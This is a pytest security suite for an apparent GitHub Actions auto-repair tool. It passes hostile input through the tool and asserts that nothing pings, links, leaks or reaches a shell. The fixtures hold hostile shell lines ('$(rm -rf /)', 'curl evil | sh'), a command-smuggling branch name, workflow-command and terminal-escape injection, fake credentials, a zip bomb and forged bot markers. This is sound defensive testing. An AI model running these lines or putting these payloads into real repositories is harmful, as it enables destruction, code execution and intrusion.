"""Hostile content through every stage: nothing pings, links, escapes its fence, beacons or reaches a shell."""

from __future__ import annotations

import json
import re
import subprocess

import pytest

from autoheal.invoke import invoke
from autoheal.markdown import GITHUB_BODY_LIMIT
from autoheal.markers import has_marker, marker
from autoheal.stages.shared.handoff import RECORD_KEY, STICKY_KEY
from autoheal.stages.shared.record import encode_record
from support.template_tokens import template_token

from .markdown_check import live_constructs, live_issue_refs, live_mentions, unbalanced_fences

HOSTILE_LINES = [
    "@org/team @alice please look",
    "see #1 and GH-2 and octo/other#3",
    "</details></summary><script>alert(1)</script>",
    "``` escaped the fence? ```` ~~~",
    "![x](http://evil.example/beacon.png) <img src=http://evil.example/b.gif>",
    "$(rm -rf /) `touch /tmp/pwned` ; curl evil | sh",
    "${{ secrets.X }} ${{ github.token }}",
    "::add-mask::nothing ::set-output name=x::y",
]
# Built at run time: no credential-shaped literal in the repository.
_ALNUM = "K3y5ecr3tV4lu3" * 4
CREDENTIALS = {
    "github": "ghp_" + _ALNUM[:36], "github-pat": "github_pat_" + _ALNUM[:22] + "_" + _ALNUM[:40],
    "aws-id": "AKIA" + "QWERTYUIOP123456", "aws-secret": "wJalrXUtnFEMI/K7MDENG/bPxRfiCY" + "HOSTILEKEY",
    "slack": "xoxb-" + "1234567890-" + _ALNUM[:24], "google": "AIza" + _ALNUM[:35],
    "stripe": "sk_" + "live_" + _ALNUM[:24], "npm": "npm_" + _ALNUM[:36], "gitlab": "glpat-" + _ALNUM[:20],
    "jwt": "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJob3N0aWxlIn0." + _ALNUM[:30],
    "pem-body": "MIIEvQIBADANBgkqhkiG9w0BAQEFAASC" + _ALNUM[:30], "url-password": "hunter2hostile",
    "assignment": "s3cretPassw0rd",
}
CREDENTIAL_LINES = [
    f"auth with {CREDENTIALS['github']} and {CREDENTIALS['github-pat']}",
    f"AWS_ACCESS_KEY_ID={CREDENTIALS['aws-id']} AWS_SECRET_ACCESS_KEY={CREDENTIALS['aws-secret']}",
    f"slack {CREDENTIALS['slack']} google {CREDENTIALS['google']} stripe {CREDENTIALS['stripe']}",
    f"npm {CREDENTIALS['npm']} gitlab {CREDENTIALS['gitlab']}",
    f"Authorization: Bearer {CREDENTIALS['jwt']}",
    "-----BEGIN RSA PRIVATE KEY-----", CREDENTIALS["pem-body"], "-----END RSA PRIVATE KEY-----",
    f"fatal: could not read from https://deploy:{CREDENTIALS['url-password']}@git.example.com/x.git",
    f"E   DB_PASSWORD={CREDENTIALS['assignment']} rejected",
]
MORE_HOSTILE = [
    "&#64;alice &#x40;bob \uff20carol see octo/other#3 [click](http://evil.example/x)",
    "www.evil.example https://evil.example/p <http://evil.example/q>",
    "job ##[set-env name=X]y \x1b]8;;http://evil.example\x07link\x1b]8;;\x07 \x1b]52;c;ZXZpbA==\x07 \u202eevil\u202c",
]
BRANCH = "feat/$(touch${IFS}pwned);echo`id`"


def hostile_log() -> str:
    ts = "2026-01-05T10:00:00.0000000Z "
    lines = ["##[group]Run pytest -q", "pytest -q", "##[endgroup]"]
    lines += HOSTILE_LINES + MORE_HOSTILE + CREDENTIAL_LINES
    lines += ["x" * 1_000_000]  # a 1 MB line
    lines += ["E   ModuleNotFoundError: No module named 'yaml'", "@org/team " + HOSTILE_LINES[1],
              *CREDENTIAL_LINES, "##[error]Process completed with exit code 1."]
    return "".join(ts + line + "\n" for line in lines)


@pytest.fixture
def recorded_subprocesses(monkeypatch):
    calls = []
    real = subprocess.Popen.__init__

    def spy(self, args, *a, **kw):
        calls.append(args)
        return real(self, args, *a, **kw)

    monkeypatch.setattr(subprocess.Popen, "__init__", spy)
    return calls


def gh_issue(sim, n: int) -> None:
    gh = sim.github()
    gh.get_repo("octo/app").create_issue(f"unrelated {n}", body="x")


def test_hostile_log_and_branch_through_the_chain(sim, tmp_path, recorded_subprocesses):
    sim.create_repo("octo/app", files={"requirements.txt": "requests==2.32.0\n",
                                       ".github/workflows/ci.yml": "name: CI\non: push\njobs: {test: {runs-on: x, steps: [{run: pytest}]}}\n",
                                       ".github/autoheal.yml": "min_confidence: 0\npull_requests:\n  min_confidence: 0\n"})
    for n in (1, 2, 3):  # the issues the hostile text points at exist, so a live link would really link
        gh_issue(sim, n)
    run_id = sim.add_run("octo/app", workflow="CI", branch=BRANCH, conclusion="failure",
                         jobs=[{"name": "test @org/team #1", "conclusion": "failure",
                                "steps": [{"name": "Run pytest", "conclusion": "failure"}], "log": hostile_log()}])
    heal_token = template_token(sim, "autoheal.yml", "heal")  # each job's own GITHUB_TOKEN
    monitor_token = template_token(sim, "pr-monitor.yml", "monitor")
    common = dict(api_url=sim.base_url, repo="octo/app", workspace=tmp_path)
    heal = invoke("heal", {"run-id": run_id}, token=heal_token, **common)
    assert heal.exit_code == 0, heal.stdout[-3000:] + heal.stderr[-3000:]
    assert heal.outputs.get("issue-number"), heal.stdout[-2000:]
    pr_number = heal.outputs.get("pr-number")
    assert pr_number, heal.stdout[-2000:]  # the hostile text went all the way to a draft PR and a hand-off
    monitor = invoke("pr-monitor", {"pr-number": pr_number} if pr_number else {}, token=monitor_token, **common)
    assert monitor.exit_code == 0, monitor.stdout[-2000:]

    issue_numbers = {i["number"] for i in sim.issues("octo/app")} | {p["number"] for p in sim.pulls("octo/app")}
    assert min(issue_numbers - {1, 2, 3}) > 3
    bodies = []
    for obj in sim.issues("octo/app") + sim.pulls("octo/app"):
        bodies.append(("title", obj["title"]))
        bodies.append(("body", obj.get("body") or ""))
        bodies += [("comment", c["body"]) for c in sim.comments("octo/app", obj["number"])]
    assert bodies
    for kind, text in bodies:
        assert len(text) <= GITHUB_BODY_LIMIT, kind
        assert not live_mentions(text), (kind, live_mentions(text), text[:500])
        # Only autoheal's own deliberate links (to the issues and PRs it created) may be live.
        assert not live_issue_refs(text, allowed=issue_numbers - {1, 2, 3}), (kind, text[:500])
        prose = re.sub(r"```.*?```", "", text, flags=re.S)
        assert "</details></summary><script>" not in prose
        assert "![x](http://evil" not in prose and "<img src=http://evil" not in prose
        assert not unbalanced_fences(text), kind
        # The same, asked of a CommonMark parser: only autoheal's own links (to the run, its issue/PR) live.
        live = live_constructs(text, allowed_hrefs=(sim.base_url, "https://github.com/octo/app/"),
                               allowed_refs=issue_numbers - {1, 2, 3})
        assert live == [], (kind, live, text[:500])
        for name, secret in CREDENTIALS.items():
            assert secret not in text, (kind, name)
        assert "\x1b" not in text and "\u202e" not in text and "\x07" not in text, kind
    published = [sim.file("octo/app", f".github/autoheal/tasks/{n}.md", ref=branch) or ""
                 for branch in sim.branches("octo/app") for n in issue_numbers]
    for text in published:  # the committed task file
        assert not any(secret in text for secret in CREDENTIALS.values()), text[:500]
    for branch in sim.branches("octo/app"):
        assert subprocess.run(["git", "check-ref-format", "--branch", branch], capture_output=True).returncode == 0
        assert "$(" not in branch and "`" not in branch and ";" not in branch
    # No subprocess received untrusted text (the only ones are our own git check above, and library lookups).
    hostile_fragments = ("rm -rf", "pwned", "evil", "secrets.X", "@org", "IFS")
    for call in recorded_subprocesses:
        joined = " ".join(map(str, call)) if isinstance(call, (list, tuple)) else str(call)
        assert not any(fragment in joined for fragment in hostile_fragments), call
    for inv, token in ((heal, heal_token), (monitor, monitor_token)):
        for text in (inv.stdout, inv.stderr, inv.summary, *inv.outputs.values()):
            # The runner needs the secret once, in the ::add-mask:: command that tells it to hide it.
            visible = "\n".join(ln for ln in text.splitlines() if not ln.startswith(f"::add-mask::{token}"))
            assert token not in visible
            assert not any(line.startswith("::set-output") or line.startswith("::add-mask::nothing")
                           for line in text.splitlines())
            assert "##[set-env" not in text and "\x1b" not in text and "\u202e" not in text
            for name, secret in CREDENTIALS.items():
                assert secret not in text, (name, text[:300])


# -- outsiders' markers change nothing ------------------------------------------------------------------------
# Anyone can write `<!-- autoheal:... -->` into a comment or an issue. Only autoheal's own identity (the token's
# login, here github-actions[bot] for GITHUB_TOKEN) is believed; these are the attacks that worked before.

REPO = "octo/app"
ACTIONS = "ghs_hostile_actions_token"
MALLORY = "ghp_hostile_mallory"
APP = "ghs_hostile_other_app"
FIX_BRANCH = "autoheal/1-missing-dependency-yaml"


def _stage(sim, tmp_path, command, config="", **args):
    (tmp_path / ".github").mkdir(exist_ok=True)
    (tmp_path / ".github" / "autoheal.yml").write_text(config)
    result = invoke(command, args, api_url=sim.base_url, token=ACTIONS, repo=REPO, workspace=tmp_path,
                    gateway_options={"sleep": lambda s: None})
    assert result.exit_code == 0, result.stdout + result.stderr
    return result


def _autoheal_pr(sim) -> int:
    """autoheal's issue #1 and its draft PR #2, both written with GITHUB_TOKEN; mallory is an outsider."""
    sim.create_repo(REPO, files={"requirements.txt": "requests\n", "app.py": "import yaml\n"})
    sim.add_token(ACTIONS, login="github-actions[bot]", kind="github_token")
    sim.add_token(MALLORY, login="mallory", kind="user", permissions={"issues": "write", "pull_requests": "write"})
    actions = sim.github(ACTIONS).get_repo(REPO)
    issue = actions.create_issue("CI / test: missing dependency — yaml", body="<!-- autoheal:fingerprint=00ff -->\nbody",
                                 labels=["autoheal"])
    sim.commit_files(REPO, FIX_BRANCH, {"requirements.txt": "requests\nPyYAML\n"}, "autoheal: add PyYAML",
                     author="github-actions[bot]")
    pull = actions.create_pull(title="autoheal: fix", head=FIX_BRANCH, base="main", draft=True,
                               body=f"Fixes #{issue.number}\n\n<!-- autoheal:issue={issue.number} -->")
    return pull.number


def test_outsiders_marked_comments_neither_fill_the_cap_nor_become_the_sticky_comment(sim, tmp_path):
    pr = _autoheal_pr(sim)
    mallory = sim.github(MALLORY).get_repo(REPO).get_issue(pr)
    forged = [mallory.create_comment(f"ping @alice\n\n<!-- autoheal:sticky=pr-monitor -->\n<!-- autoheal:comment=f{n} -->")
              for n in range(3)]
    head = next(p for p in sim.pulls(REPO) if p["number"] == pr)["head"]["sha"]
    sim.add_check_run(REPO, head, "test", conclusion="success")
    _stage(sim, tmp_path, "pr-monitor", "rate_limits:\n  max_comments_per_hour: 2\n", **{"pr-number": pr})
    comments = sim.comments(REPO, pr)
    theirs = [c for c in comments if c["user"]["login"] == "mallory"]
    assert [c["body"] for c in theirs] == [c.body for c in forged]  # never edited into autoheal's status
    ours = [c for c in comments if c["user"]["login"] == "github-actions[bot]"]
    assert any(has_marker(c["body"], "sticky", "pr-monitor") for c in ours), comments  # the cap had room


def test_a_forged_copilot_hand_off_record_is_ignored(sim, tmp_path):
    pr = _autoheal_pr(sim)
    record = {"verified": True, "mode": "coding_agent", "sha": "x",
              "attempts": [{"mode": "coding_agent", "outcome": "verified", "detail": "Copilot is assigned"}]}
    body = f"handed off\n\n{encode_record(RECORD_KEY, record)}\n\n{marker('sticky', STICKY_KEY)}\n"
    sim.github(MALLORY).get_repo(REPO).get_issue(pr).create_comment(body)
    result = _stage(sim, tmp_path, "copilot-review", "copilot:\n  handoff_modes: [coding_agent]\n", **{"pr-number": pr})
    assert result.outputs["verified"] == "false", result.outputs
    labels = [lb["name"] for lb in next(p for p in sim.pulls(REPO) if p["number"] == pr)["labels"]]
    assert "copilot-ready" not in labels
    assert any(c["body"] == body and c["user"]["login"] == "mallory" for c in sim.comments(REPO, pr))


def test_another_bots_issue_lends_no_hidden_analysis(sim, tmp_path):
    """Any `[bot]` was trusted: every other workflow's github-actions[bot] and every installed app."""
    sim.create_repo(REPO, files={"requirements.txt": "requests\n", "app.py": "import yaml\n"})
    sim.add_token(ACTIONS, login="autoheal-app[bot]", kind="installation")
    sim.add_token(APP, login="other-app[bot]", kind="installation")
    analysis = {"category": "missing_dependency", "confidence": 99, "auto_pr": True, "fingerprint": "00ff",
                "workflow": "CI", "failed_job": "test", "specifics": {"module": "yaml", "package": "evil-yaml"},
                "key_lines": [{"line": 1, "text": "ModuleNotFoundError: No module named 'yaml'"}]}
    body = f"<!-- autoheal:fingerprint=00ff -->\n<!-- autoheal:analysis\n{json.dumps(analysis)}\n-->\nlooks official"
    number = sim.github(APP).get_repo(REPO).create_issue("CI / test: missing dependency", body=body).number
    result = _stage(sim, tmp_path, "draft-pr", "min_confidence: 0\npull_requests:\n  min_confidence: 0\n",
                    **{"issue-number": number})
    assert "opened by `other-app[bot]`" in result.stdout + json.dumps(result.outputs), result.stdout
    for branch in sim.branches(REPO):
        assert "evil-yaml" not in (sim.file(REPO, "requirements.txt", ref=branch) or "")


def test_autoheals_own_identity_and_the_allow_list_are_believed(sim, tmp_path):
    """The same hidden analysis from autoheal's own login, or from a login in trusted_identities, is used."""
    sim.create_repo(REPO, files={"requirements.txt": "requests\n", "app.py": "import yaml\n"})
    sim.add_token(ACTIONS, login="github-actions[bot]", kind="github_token")
    sim.add_token(APP, login="other-app[bot]", kind="installation")
    analysis = {"category": "missing_dependency", "confidence": 99, "auto_pr": True, "fingerprint": "00ff",
                "workflow": "CI", "failed_job": "test", "specifics": {"module": "yaml"},
                "key_lines": [{"line": 1, "text": "ModuleNotFoundError: No module named 'yaml'"}]}
    body = f"<!-- autoheal:fingerprint=00ff -->\n<!-- autoheal:analysis\n{json.dumps(analysis)}\n-->\nbody"
    number = sim.github(APP).get_repo(REPO).create_issue("CI / test: missing dependency", body=body).number
    config = "min_confidence: 0\npull_requests:\n  min_confidence: 0\ntrusted_identities: [\"other-app[bot]\"]\n"
    result = _stage(sim, tmp_path, "draft-pr", config, **{"issue-number": number, "dry-run": True})
    assert "opened by `other-app[bot]`" not in result.stdout, result.stdout


def test_health_check_alert_and_dashboard_keep_a_hostile_workflow_name_inert(sim, tmp_path):
    """issue 19, point 3: the alert issue printed the workflow name as raw Markdown (a pull_request run's name
    can come from a contributor)."""
    from datetime import timedelta

    name = "CI @org/team #1 octo/x#2 <img src=http://evil.example/b.gif> [x](http://evil.example) &#64;bob"
    sim.create_repo(REPO, files={".github/workflows/ci.yml": "name: CI\non: push\njobs: {}\n"})
    gh_issue(sim, 1)
    gh_issue(sim, 2)
    start = sim.clock.now() - timedelta(days=5)
    for i in range(6):
        ok = i >= 4
        sim.add_run(REPO, workflow=name, branch="main", conclusion="success" if ok else "failure",
                    head_sha=f"{i:040x}", created_at=start + timedelta(hours=i),
                    jobs=[{"name": "t", "conclusion": "success" if ok else "failure", "steps": [], "log": "x\n"}])
    result = invoke("health-check", {"alert-below": 90}, api_url=sim.base_url, token=sim.token, repo=REPO,
                    workspace=tmp_path)
    assert result.exit_code == 0, result.stdout + result.stderr
    made = [i for i in sim.issues(REPO) if i["number"] > 2]
    assert any("autoheal-alert" in [lb["name"] for lb in i["labels"]] for i in made)
    for issue in made:
        live = live_constructs(issue["body"], allowed_refs={i["number"] for i in made})
        assert live == [], (issue["title"], live, issue["body"][:800])


# -- bounded memory and time: the archive and the template cases, through the real CLI paths ----------------

def test_a_zip_bomb_of_many_ten_mib_entries_is_refused_by_analyze_failure(tmp_path):
    import io
    import resource
    import time
    import zipfile

    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for n in range(1, 41):
            archive.writestr(f"{n}_job{n}.txt", b"\0" * (10 * 1024 * 1024))
    (tmp_path / "logs.zip").write_bytes(buffer.getvalue())
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    start = time.monotonic()
    result = invoke("analyze-failure", {"log-zip": "logs.zip"}, workspace=tmp_path)
    elapsed = time.monotonic() - start
    grown_kib = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before
    assert result.exit_code != 0
    assert "input 'log-zip': refused" in result.stdout + result.stderr and "zip bomb" in result.stdout + result.stderr
    assert elapsed < 5 and grown_kib < 64 * 1024, (elapsed, grown_kib)  # 400 MiB declared, nothing inflated


def test_an_issue_template_with_endless_loops_cannot_hang_open_issue(sim, tmp_path):
    import time

    sim.create_repo(REPO, files={"README.md": "x\n"})
    analysis = {"schema_version": 1, "category": "missing_dependency", "confidence": 95, "fingerprint": "ab12",
                "workflow": "CI", "failed_job": "test", "run_id": 1, "key_lines": [{"line": 1, "text": "E boom"}]}
    (tmp_path / "analysis.json").write_text(json.dumps(analysis))
    (tmp_path / "issue.md.j2").write_text(
        "{% for i in range(10**9) %}{% for j in range(10**9) %}x{% endfor %}{% endfor %}")
    start = time.monotonic()
    result = invoke("open-issue", {"analysis-file": "analysis.json", "template": "issue.md.j2"},
                    api_url=sim.base_url, token=sim.token, repo=REPO, workspace=tmp_path)
    assert time.monotonic() - start < 15
    assert result.exit_code != 0 and "input 'template': the issue template cannot be rendered" in result.stdout
    (tmp_path / "issue.md.j2").write_text(
        "{% for i in range(100000) %}{% for j in range(100000) %}{% endfor %}{% endfor %}")
    start = time.monotonic()
    result = invoke("open-issue", {"analysis-file": "analysis.json", "template": "issue.md.j2"},
                    api_url=sim.base_url, token=sim.token, repo=REPO, workspace=tmp_path)
    assert time.monotonic() - start < 15
    assert "rendering took longer than 5 seconds" in result.stdout, result.stdout[-2000:]
    assert not [i for i in sim.issues(REPO)]  # nothing half-written


def test_a_copied_stale_marker_is_activity_not_autoheals_warning(sim, tmp_path):
    """Before, the newest comment carrying the stale marker restarted the countdown, whoever wrote it, and
    was not counted as activity: an outsider could keep a PR marked stale and get it closed."""
    sim.create_repo(REPO, files={"README.md": "hi\n"})
    sim.add_token(MALLORY, login="mallory", kind="user", permissions={"issues": "write", "pull_requests": "write"})
    gh = sim.github().get_repo(REPO)
    main = gh.get_branch("main").commit.sha
    gh.create_git_ref("refs/heads/autoheal/1-fix", main)
    gh.create_file("f.txt", "x", "x\n", branch="autoheal/1-fix")
    number = gh.create_pull(title="autoheal: fix", body="<!-- autoheal:issue=1 -->", head="autoheal/1-fix",
                            base="main", draft=True).number

    def stale():
        result = invoke("stale-cleanup", {}, api_url=sim.base_url, token=sim.token, repo=REPO, workspace=tmp_path)
        assert result.exit_code == 0, result.stdout + result.stderr
        return result

    sim.clock.advance(days=8)
    assert stale().outputs["warned"] == "1"
    sim.clock.advance(days=1)
    sim.github(MALLORY).get_repo(REPO).get_issue(number).create_comment("bump <!-- autoheal:stale -->")
    assert stale().outputs["unstaled"] == "1"  # someone's comment after the warning: activity
    pr = next(p for p in sim.pulls(REPO) if p["number"] == number)
    assert pr["state"] == "open" and "stale" not in [lb["name"] for lb in pr["labels"]]


def test_the_analysis_file_and_json_output_carry_no_credential(tmp_path):
    log = "".join(f"2026-01-05T10:00:00.0000000Z {line}\n" for line in
                  ["##[group]Run pytest", "pytest -q", "##[endgroup]", *CREDENTIAL_LINES,
                   "E   ModuleNotFoundError: No module named 'yaml'", "##[error]Process completed with exit code 1."])
    (tmp_path / "job.log").write_text(log)
    result = invoke("analyze-failure", {"log": "job.log", "json": True}, workspace=tmp_path)
    assert result.exit_code == 0, result.stdout + result.stderr
    written = (tmp_path / result.outputs["analysis-file"]).read_text()
    json.loads(written)  # still valid JSON
    for text in (written, result.stdout, result.stderr, result.summary):
        for name, secret in CREDENTIALS.items():
            assert secret not in text, (name, text[:300])


def test_an_outsiders_pr_carrying_autoheals_marker_is_not_autoheals(sim, tmp_path):
    sim.create_repo(REPO, files={"requirements.txt": "requests\n", "app.py": "import yaml\n"})
    sim.add_token(ACTIONS, login="github-actions[bot]", kind="github_token")
    sim.add_token(MALLORY, login="mallory", kind="user", permissions={"issues": "write", "pull_requests": "write"})
    analysis = {"category": "missing_dependency", "confidence": 99, "auto_pr": True, "fingerprint": "00ff",
                "workflow": "CI", "failed_job": "test", "specifics": {"module": "yaml"},
                "key_lines": [{"line": 1, "text": "ModuleNotFoundError: No module named 'yaml'"}]}
    body = f"<!-- autoheal:fingerprint=00ff -->\n<!-- autoheal:analysis\n{json.dumps(analysis)}\n-->\nbody"
    number = sim.github(ACTIONS).get_repo(REPO).create_issue("CI / test: missing dependency", body=body).number
    sim.commit_files(REPO, "mallory/x", {"app.py": "import os\n"}, "mine", author="mallory")
    theirs = sim.github(MALLORY).get_repo(REPO).create_pull(
        title="totally autoheal", head="mallory/x", base="main",
        body=f"Fixes #{number}\n\n<!-- autoheal:issue={number} -->\n<!-- autoheal:fix=dependency -->")
    before = next(p for p in sim.pulls(REPO) if p["number"] == theirs.number)
    result = _stage(sim, tmp_path, "draft-pr", "min_confidence: 0\npull_requests:\n  min_confidence: 0\n",
                    **{"issue-number": number})
    # Before, autoheal adopted it: pr-number pointed heal's next step (the Copilot hand-off) at mallory's PR.
    assert result.outputs["pr-number"] != str(theirs.number), result.outputs
    after = next(p for p in sim.pulls(REPO) if p["number"] == theirs.number)
    assert (after["body"], after["title"], after["labels"], after["head"]["sha"]) == \
        (before["body"], before["title"], before["labels"], before["head"]["sha"])


def test_pr_monitor_watches_only_prs_autoheal_opened(sim, tmp_path):
    pr = _autoheal_pr(sim)
    sim.commit_files(REPO, "mallory/y", {"app.py": "import os\n"}, "mine", author="mallory")
    theirs = sim.github(MALLORY).get_repo(REPO).create_pull(title="autoheal: looks official", head="mallory/y",
                                                            base="main", draft=True, body="<!-- autoheal:issue=1 -->")
    result = _stage(sim, tmp_path, "pr-monitor")
    assert sorted(s["number"] for s in json.loads(result.outputs["states"])) == [pr]
    assert sim.comments(REPO, theirs.number) == []
